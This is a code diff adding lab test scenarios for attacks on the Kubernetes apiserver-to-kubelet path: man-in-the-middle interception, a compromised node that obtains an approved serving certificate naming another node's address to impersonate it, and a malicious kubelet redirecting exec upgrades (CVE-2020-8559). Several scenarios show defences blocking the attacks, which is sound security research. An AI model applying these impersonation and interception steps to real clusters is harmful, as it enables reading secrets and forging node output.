@@ -1,6 +1,18 @@
 // Scenarios for the attacks of the catalogue on the apiserver → kubelet path (C9, C10), on one host: the man in
 // the middle stands on the address node-1 advertises, the scanner reaches the kubelets' ports.
-import { channelText, nodesProxyExec, scanKubelet } from '@hubspoke/attacker';
+import {
+  channelText,
+  DEFAULT_FORGED_LOG,
+  nodesProxyExec,
+  scanKubelet,
+  startMaliciousKubelet,
+  startRedirectTarget,
+  startRogueNode,
+  submitServingCsr,
+  waitForIssuedCertificate,
+  type RogueKubelet,
+} from '@hubspoke/attacker';
+import { createSelfSignedServingCert } from '@hubspoke/pki';
 import { Observations, type Scenario } from './scenario.ts';
 import type { ScenarioLab } from './scenario-lab.ts';
 
@@ -25,6 +37,20 @@ async function interceptLogsAndExec(lab: ScenarioLab, o: Observations): Promise<
   return { logs: logs.stdout, logBody: logExchange?.response?.status === 200 ? logExchange.response.body : undefined, execOutput, requests };
 }
 
+/**
+ * node-2's owner asks the certificates API, as node-2, for a kubelet-serving certificate that names node-1's
+ * advertised address too; the admin approves it; the rogue answers on node-1's address with it.
+ */
+async function rogueNode2(lab: ScenarioLab, o: Observations): Promise<RogueKubelet> {
+  const node2 = lab.cluster.pki.nodes['node-2'].client;
+  const identity = { server: lab.cluster.server, caCert: lab.cluster.pki.ca.cert, clientCert: node2.cert, clientKey: node2.key };
+  const csr = await submitServingCsr({ ...identity, nodeName: 'node-2', ipAddresses: [lab.cluster.kubelets[1].address, lab.attacker!.address], csrName: 'node-2-serving' });
+  const approve = await lab.kubectl(['certificate', 'approve', csr.name]);
+  o.note(`the admin: ${approve.stdout.trim()} (CN system:node:node-2; IPs ${lab.cluster.kubelets[1].address} and ${lab.attacker!.address}, node-1's)`);
+  const cert = await waitForIssuedCertificate({ ...identity, name: csr.name });
+  return startRogueNode({ listen: { host: lab.attacker!.address, port: lab.attacker!.port }, tls: { cert, key: csr.key } });
+}
+
 export const ATTACK_SCENARIOS: Scenario[] = [
   {
     id: 'mitm-kubernetes-defaults',
@@ -32,7 +58,7 @@ export const ATTACK_SCENARIOS: Scenario[] = [
     attack: 'mitm-observe',
     title: 'A man in the middle between apiserver and kubelet, with Kubernetes\' defaults',
     claim: 'The apiserver does not verify the kubelet\'s serving certificate, so whoever answers for a node\'s address completes TLS with it and reads its requests. The attacker cannot present the apiserver\'s client certificate, so a kubelet that refuses anonymous callers does not answer it.',
-    topology: { profile: 'kubernetes-defaults', attackerOnNode1: true },
+    topology: { profile: 'kubernetes-defaults', attackerOnNode1: 'mitm' },
     steps: ['hubspoke up (node-1 advertising the attacker\'s address)', 'kubectl logs chatty --tail=2', "kubectl exec shell -- sh -c 'echo the-secret-is-42'"],
     expected: 'The attacker reads both requests (the pod, the command and its arguments); the kubelet refuses the attacker\'s own connection (401), so kubectl fails with Unauthorized and the output is not read.',
     async run(lab) {
@@ -50,7 +76,7 @@ export const ATTACK_SCENARIOS: Scenario[] = [
     attack: 'mitm-read-output',
     title: 'A man in the middle in front of a kubelet that serves anonymous callers',
     claim: 'With the kubelet\'s command-line defaults (anonymous requests allowed, AlwaysAllow), the attacker relays the apiserver\'s requests as itself and reads the answers: log text and command output in plaintext.',
-    topology: { profile: 'wide-open', attackerOnNode1: true },
+    topology: { profile: 'wide-open', attackerOnNode1: 'mitm' },
     steps: ['hubspoke up --profile wide-open (node-1 advertising the attacker\'s address)', 'kubectl logs chatty --tail=2', "kubectl exec shell -- sh -c 'echo the-secret-is-42'"],
     expected: 'kubectl works as usual, and the attacker holds the same log lines and the command\'s output.',
     async run(lab) {
@@ -67,7 +93,7 @@ export const ATTACK_SCENARIOS: Scenario[] = [
     attack: 'mitm-observe',
     title: '--kubelet-certificate-authority stops the man in the middle',
     claim: 'Give the apiserver the CA that signs the kubelets\' serving certificates and it refuses any other certificate: the attacker\'s handshake fails and it learns nothing.',
-    topology: { profile: 'hardened', egress: 'direct', attackerOnNode1: true },
+    topology: { profile: 'hardened', egress: 'direct', attackerOnNode1: 'mitm' },
     steps: ['hubspoke up --profile hardened --egress direct (node-1 advertising the attacker\'s address)', 'kubectl logs chatty'],
     expected: 'kubectl logs fails with x509: certificate signed by unknown authority, and the attacker captured nothing.',
     async run(lab) {
@@ -150,6 +176,95 @@ export const ATTACK_SCENARIOS: Scenario[] = [
       const proxied = await nodesProxyExec({ ...target, route: { via: 'apiserver', server: lab.cluster.server, node: 'node-1' } });
       o.note(`through the apiserver's node proxy: ${proxied.outcome}`);
       o.expect(proxied.outcome === 'executed', 'and through nodes/node-1/proxy');
+      return o.result();
+    },
+  },
+  {
+    id: 'rogue-node',
+    claims: ['C10'],
+    title: 'A node with a cluster-signed certificate answers for another node',
+    claim: '--kubelet-certificate-authority checks that the certificate comes from the cluster CA and names the address dialled, not whose it is: a compromised node that got a serving certificate naming another node\'s address (approvers rarely check IPs) can answer for that node.',
+    topology: { profile: 'hardened', egress: 'direct', attackerOnNode1: 'vacant' },
+    steps: [
+      'as node-2: create a kubelet-serving CSR for CN system:node:node-2 with node-1\'s address among its IPs',
+      'kubectl certificate approve node-2-serving',
+      'hubspoke-attacker rogue-kubelet --mode rogue-node --listen <node-1\'s address>:10250 --tls-cert-file … --tls-private-key-file …',
+      'kubectl logs chatty    # chatty runs on node-1',
+    ],
+    expected: 'The apiserver verifies the rogue\'s certificate (cluster CA, right address) and kubectl prints the rogue\'s forged log text.',
+    async run(lab) {
+      const o = new Observations();
+      await lab.runPod('chatty', LOGGER);
+      const rogue = await rogueNode2(lab, o);
+      try {
+        const logs = await lab.kubectl(['logs', 'chatty']);
+        o.note(`kubectl logs chatty: ${JSON.stringify(logs.stdout || logs.stderr)}`);
+        o.expect(logs.code === 0 && logs.stdout === DEFAULT_FORGED_LOG, 'the user reads the rogue\'s forged log');
+        o.expect(rogue.connections().some((c) => c.clientCN === 'kube-apiserver-kubelet-client'), 'the apiserver presented its kubelet client certificate to the rogue');
+      } finally {
+        await rogue.close();
+      }
+      return o.result();
+    },
+  },
+  {
+    id: 'rogue-node-cn-check',
+    claims: ['C10'],
+    title: 'KubeletCertCNValidation asks whose certificate it is',
+    claim: 'KEP-4872 (not in a Kubernetes release yet) makes the apiserver require the kubelet certificate\'s CN to be system:node:<the node dialled>; the rogue node\'s honest CN gives it away.',
+    topology: { profile: 'hardened', egress: 'direct', apiserverArgs: ['--feature-gates=KubeletCertCNValidation=true'], attackerOnNode1: 'vacant' },
+    steps: [
+      'hubspoke up --profile hardened --egress direct --apiserver-arg=--feature-gates=KubeletCertCNValidation=true',
+      'the same rogue node as in rogue-node',
+      'kubectl logs chatty',
+    ],
+    expected: 'kubectl logs fails with `kubelet serving certificate CN "system:node:node-2" does not match node "node-1"`, and the rogue receives no request.',
+    async run(lab) {
+      const o = new Observations();
+      await lab.runPod('chatty', LOGGER);
+      const rogue = await rogueNode2(lab, o);
+      try {
+        const logs = await lab.kubectl(['logs', 'chatty']);
+        o.note(`kubectl logs chatty: ${logs.stderr.trim()}`);
+        o.expect(logs.code !== 0 && logs.stderr.includes('kubelet serving certificate CN "system:node:node-2" does not match node "node-1"'), 'the apiserver refused the certificate of another node');
+        o.expect(rogue.requests().length === 0, 'the rogue received no request');
+      } finally {
+        await rogue.close();
+      }
+      return o.result();
+    },
+  },
+  {
+    id: 'upgrade-redirect',
+    claims: ['C8', 'C9'],
+    title: 'A malicious kubelet redirects an exec upgrade elsewhere (CVE-2020-8559)',
+    claim: 'Whoever answers for a node can answer the apiserver\'s exec upgrade with a redirect to another host, hoping the apiserver follows it with its credentials. Since the fix the apiserver refuses any non-101 answer to an upgrade instead of following it.',
+    topology: { profile: 'kubernetes-defaults', attackerOnNode1: 'vacant' },
+    steps: [
+      'hubspoke-attacker rogue-kubelet --mode redirect --listen <node-1\'s address>:10250 --redirect-to https://<elsewhere>',
+      'kubectl exec shell -- id    # shell runs on node-1',
+    ],
+    expected: 'kubectl exec fails with `invalid upgrade response: status code 302`, and the redirect target receives nothing.',
+    async run(lab) {
+      const o = new Observations();
+      await lab.runPod('shell', SHELL);
+      const target = await startRedirectTarget({ host: lab.attacker!.address, port: 0 });
+      const tls = await createSelfSignedServingCert({ host: lab.attacker!.address });
+      const rogue = await startMaliciousKubelet({
+        listen: { host: lab.attacker!.address, port: lab.attacker!.port },
+        tls,
+        mode: { kind: 'redirect', location: target.url },
+      });
+      try {
+        const exec = await lab.kubectl(['exec', 'shell', '--', 'id']);
+        o.note(`kubectl exec: ${exec.stderr.trim()}`);
+        o.note(`the malicious kubelet answered: ${rogue.requests().map((r) => `${r.method} ${r.target.split('?')[0]}`).join(', ')}`);
+        o.expect(exec.code !== 0 && exec.stderr.includes('invalid upgrade response: status code 302'), 'the apiserver refused the redirected upgrade');
+        o.expect(target.arrivals().length === 0, 'the redirect target received nothing');
+      } finally {
+        await rogue.close();
+        await target.close();
+      }
       return o.result();
     },
   },
